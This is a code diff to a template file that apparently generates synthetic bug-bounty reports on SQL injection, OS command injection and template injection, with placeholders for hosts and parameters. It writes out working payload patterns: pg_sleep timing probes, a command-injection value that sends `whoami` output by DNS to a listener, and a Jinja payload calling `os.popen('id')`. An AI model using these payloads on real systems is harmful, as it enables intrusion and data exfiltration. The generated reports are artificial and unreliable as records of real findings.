@@ -20,30 +20,36 @@ const sqlInjection: VulnerabilityClass = {
     { path: '«api»/autocomplete', parameter: 'term' },
   ],
   titles: [
-    'SQL injection in the `«parameter»` parameter of «path» gives the full database',
     'Time-based blind SQLi in «path» via `«parameter»`',
-    'SQL injection in «Many» export: `«parameter»` reaches ORDER BY unescaped',
     'Error-based SQL injection at «host»«path»',
-    'Authenticated SQLi (PostgreSQL) through `«parameter»`, stacked queries possible',
+    'SQL injection in the `«parameter»` parameter of «path» gives the full database',
+    'Blind SQL injection in `«parameter»` («path»), confirmed with pg_sleep',
+    'SQL injection: the error message of «path» quotes the database',
+    'Every table behind «host» can be read through `«parameter»` (SQLi)',
   ],
   summaries: [
-    'The `«parameter»` parameter of `«path»` is put into the SQL statement without quoting. Any signed-in «customer» can read every table of the database behind «host».',
-    '`«path»` builds its query by joining strings. A quote in `«parameter»` breaks the statement, and a sub-select in it is executed by the database.',
+    'The `«parameter»` parameter of `«path»` is put into the SQL statement without quoting. The answer takes exactly as long as I tell the database to sleep.',
+    '`«path»` builds its query by joining strings. A quote in `«parameter»` breaks the statement, and the error that comes back shows the result of a sub-select.',
     'I can run my own SQL on the database of «target». The parameter is `«parameter»`, the session of any «customer» is enough.',
   ],
   steps: [
     [
       'Sign in to «host» as any «customer» (I used `«me»`).',
-      'Open the list of «many» and start an export, so that the request to `«path»` shows up in the proxy.',
+      'Use the page that calls `«path»`, so that the request shows up in the proxy.',
       'Put a single quote behind the value of `«parameter»`. The answer changes from 200 to 500; with two quotes it is 200 again.',
       'Replace the value with the sleep below. The answer takes a little more than «seconds» seconds; with `pg_sleep(0)` it takes 90 ms.',
-      'Ask for one character at a time, or let sqlmap do it with `--technique=T --dbms=postgresql`.',
+      'Change the number: the delay follows it, ten tries out of ten.',
     ],
     [
       'Take a valid session cookie of «host».',
-      'Send the request below and watch the time.',
-      'Change the number inside `pg_sleep()`: the delay follows it exactly, ten tries out of ten.',
-      'Use the second payload to see the version of the database in the error message.',
+      'Send the request below.',
+      'Read the version of the database in the error message.',
+      'Replace `version()` by any sub-select that gives one value. I asked for names of tables and nothing else.',
+    ],
+    [
+      'Put a session of your own into the script below.',
+      'Run it. It asks yes-or-no questions and reads `current_user` one character after the other, which takes about a minute.',
+      'Any other expression works in the same place.',
     ],
   ],
   proofs: [
@@ -150,26 +156,26 @@ const commandInjection: VulnerabilityClass = {
     { method: 'POST', path: '/cgi-bin/network.cgi', parameter: 'ntp_server', on: ['device'] },
   ],
   titles: [
-    'OS command injection via `«parameter»` in «path»',
-    'Remote code execution on «host»: shell metacharacters in `«parameter»`',
-    'RCE as root through «path»',
     'Blind command injection in «path», confirmed with DNS',
+    'OS command injection via `«parameter»` in «path»',
+    'Remote code execution on «host»: shell metacharacters in `«parameter»` (out of band)',
+    'RCE through `«parameter»`: output of `id` in the answer of «path»',
   ],
   summaries: [
-    '`«parameter»` of `«path»` is handed to a shell. A back-quoted command in it runs on the server; I confirmed it by a DNS lookup and with `id`.',
-    'The value of `«parameter»` ends up in `sh -c`. Anything behind a semicolon is executed on «host».',
+    '`«parameter»` of `«path»` is handed to a shell. A command in it runs on the server; the answer shows nothing, but a DNS lookup with the name of the user arrives at my listener.',
+    'The value of `«parameter»` ends up in `sh -c`. Anything behind a semicolon is executed on «host», and its output is part of the answer.',
   ],
   steps: [
     [
       'Sign in as a «customer» and open the page that calls `«path»`.',
-      'Catch the request and change `«parameter»` to `` x;nslookup `whoami`.«listener» ``.',
+      'Catch the request and change `«parameter»` to the value below.',
       'Look at the listener: a query for the name of the system user arrives within a second.',
-      'Repeat with `id>/tmp/«handle»` and read it back through the status page, as shown below.',
+      'I ran `whoami` and nothing else.',
     ],
     [
       'Send the request below with a fresh session.',
-      'Wait for the DNS query at `«listener»`.',
-      'Delete `/tmp/«handle»` when you are done, I left nothing else behind.',
+      'Read `output` in the answer.',
+      'I stopped after `id`. Nothing was written to the disk.',
     ],
   ],
   proofs: [
@@ -238,8 +244,8 @@ const templateInjection: VulnerabilityClass = {
   titles: [
     'Server-side template injection in the «one» e-mail template leads to RCE',
     'SSTI in «path»: `{{7*7}}` is rendered as 49',
+    'From mail template preview to code execution (`«parameter»`)',
     'Template injection through `«parameter»` on «host»',
-    'From mail template preview to code execution («framework»)',
   ],
   summaries: [
     'The `«parameter»` of a mail template is evaluated on the server. `{{7*7}}` becomes `49` in the preview, and from there the template engine reaches the runtime.',
@@ -269,7 +275,7 @@ Cookie: «cookieName»=«session»
 X-CSRF-Token: «csrf»
 Content-Type: application/json
 
-{"template":"«segment»","«parameter»":"Hello {{7*7}} {{cycler.__init__.__globals__.os.popen('id').read()}}"}
+{"template":"«table»","«parameter»":"Hello {{7*7}} {{cycler.__init__.__globals__.os.popen('id').read()}}"}
 
 HTTP/2 200
 Content-Type: application/json
@@ -281,11 +287,10 @@ Content-Type: application/json
       {
         say: 'The smallest proof:',
         lang: 'bash',
-        code: `curl -s -X «method» '«url»' \\
-  -H 'Cookie: «cookieName»=«session»' -H 'Content-Type: application/json' \\
-  -d '{"«parameter»":"\${{<%[%\\u0027\\"}}%\\\\ {{7*7}}"}'
-
-{"error":"TemplateSyntaxError: unexpected char at 3","line":1}`,
+        code: `$ curl -s -X «method» '«url»' \\
+    -H 'Cookie: «cookieName»=«session»' -H 'Content-Type: application/json' \\
+    -d '{"«parameter»":"«handle» {{7*7}} {{ \\u0027a\\u0027.upper() }}"}'
+{"preview":"«handle» 49 A"}`,
       },
     ],
   ],
